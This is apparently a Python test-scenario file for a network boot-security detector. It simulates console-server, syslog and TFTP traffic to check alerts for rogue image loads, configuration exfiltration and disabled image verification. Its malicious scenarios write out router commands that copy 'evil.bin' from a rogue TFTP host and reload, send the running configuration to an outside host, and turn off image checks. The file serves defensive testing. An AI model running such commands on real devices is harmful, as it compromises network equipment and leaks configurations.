"""BW05, BW07, BW18 and BW27 where commands travel otherwise: on console servers, in rarer logs, in configurations."""

from __future__ import annotations

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, HQ, OUTSIDE, ROGUE
from bootwarden.traffic import images, syslog, tftp
from bootwarden.traffic.wire import Tcp, Wire

ASA, NXOS, EEM = ("10.0.1.131", "10.0.1.132", "10.0.1.133")


def logged(wire: Wire, command: str) -> None:
    """One command as ASA and NX-OS log it, and as an event applet does."""
    ran = f"%ASA-5-111010: User 'mallory', running 'CLI' from IP {ATTACKER}, executed '{command}'"
    syslog.send(wire, ASA, f"<189>Jan  5 2026 08:00:00: {ran}")
    account = f"%AAA-6-AAA_ACCOUNTING_MESSAGE: update:{ATTACKER}@pts/0:mallory:{command} (SUCCESS)"
    syslog.send(wire, NXOS, f"<190>: 2026 Jan  5 08:00:00 UTC: {account}")
    syslog.ios(wire, EEM, f"%HA_EM-6-LOG: catchall: {command}", host="edge33")


@scenario(
    "BW05",
    "malicious",
    raises=[("BW05", 8, ATTACKER, "10.0.1.130"), ("BW07", 9, ATTACKER, "10.0.1.130")],
    site=HQ,
    with_site=Expect(),
)
def bw05_on_a_console_server(wire: Wire) -> None:
    """On a console server's port telnet is negotiated, an image is copied, and the router reloaded."""
    tcp = Tcp(wire, ATTACKER, 50023, "10.0.1.130", 2033)
    tcp.reply(b"\xff\xfb\x01\xff\xfb\x03\r\nedge1#")
    tcp.send(f"copy tftp://{ROGUE}/evil.bin flash:\r\0".encode())
    tcp.send(b"reload\r\0")
    tcp.close()


@scenario("BW05", "benign", site=HQ, with_site=Expect(evidence=()))
def bw05_words_on_other_ports(wire: Wire) -> None:
    """A service without telnet's negotiation hears the same words, and a console server hears others."""
    tcp = Tcp(wire, ADMIN, 50023, "10.0.1.130", 6379)
    tcp.reply(b"ready\r\n")
    tcp.send(f"copy tftp://{ROGUE}/evil.bin flash:\r\nreload\r\n".encode())
    tcp.close()
    tcp = Tcp(wire, ADMIN, 50024, "10.0.1.130", 2033)
    tcp.reply(b"\xff\xfb\x01\xff\xfb\x03\r\nedge1#")
    tcp.send(b"show reload\r\0show tftp\r\0")
    tcp.close()


@scenario(
    "BW07",
    "malicious",
    raises=[
        ("BW07", 1542007300, ASA, syslog.COLLECTOR),
        ("BW07", 8, NXOS, syslog.COLLECTOR),
        ("BW07", 1542007302, EEM, syslog.COLLECTOR),
    ],
    site=HQ,
    with_site=Expect(tuple(Notice("Boot_Command", device, ROGUE, "evil.bin") for device in (ASA, NXOS, EEM))),
)
def bw07_rarer_logs(wire: Wire) -> None:
    """A boot command in the logs of ASA and NX-OS, and of an event applet that logs all that is typed."""
    logged(wire, f"boot system tftp://{ROGUE}/evil.bin")


@scenario(
    "BW18",
    "malicious",
    raises=[
        ("BW18", 1542007312, ASA, syslog.COLLECTOR),
        ("BW18", 1542007311, NXOS, syslog.COLLECTOR),
        ("BW18", 1542007313, EEM, syslog.COLLECTOR),
    ],
    plain=Expect(tuple(Notice("Config_Exfiltration", device, OUTSIDE, "x.cfg") for device in (ASA, NXOS, EEM))),
    site=HQ,
    with_site=Expect(tuple(Notice("Config_Exfiltration", device, OUTSIDE, "x.cfg") for device in (ASA, NXOS, EEM))),
)
def bw18_rarer_logs(wire: Wire) -> None:
    """The same logs tell that a configuration is sent across the border."""
    logged(wire, f"copy running-config tftp://{OUTSIDE}/x.cfg")


@scenario(
    "BW27",
    "malicious",
    raises=[
        ("BW27", 1542007322, ASA, syslog.COLLECTOR),
        ("BW27", 1542007321, NXOS, syslog.COLLECTOR),
        ("BW27", 1542007323, EEM, syslog.COLLECTOR),
        ("BW27", 4, ROGUE, "10.0.1.134"),
    ],
    raises_with_site=[
        ("BW27", 1542007322, ASA, syslog.COLLECTOR),
        ("BW27", 1542007321, NXOS, syslog.COLLECTOR),
        ("BW27", 1542007323, EEM, syslog.COLLECTOR),
        ("BW27", 4, ROGUE, "10.0.1.134"),
        ("BW10", 1, ROGUE, "10.0.1.134"),
    ],
    site=HQ,
    with_site=Expect(
        (
            *(Notice("Boot_Integrity_Lowered", device) for device in (ASA, NXOS, EEM)),
            Notice("Boot_Integrity_Lowered", "10.0.1.134", ROGUE, "edge34-confg"),
            Notice("Unauthorized_Boot_Server", "10.0.1.134", ROGUE, "edge34-confg"),
        )
    ),
)
def bw27_rarer_logs(wire: Wire) -> None:
    """The same logs tell that images are not checked; a rogue server's configuration gives up the secured image."""
    logged(wire, "no file verify auto")
    tftp.read(wire, "10.0.1.134", ROGUE, "edge34-confg", images.config("edge34", ("no secure boot-image",)))
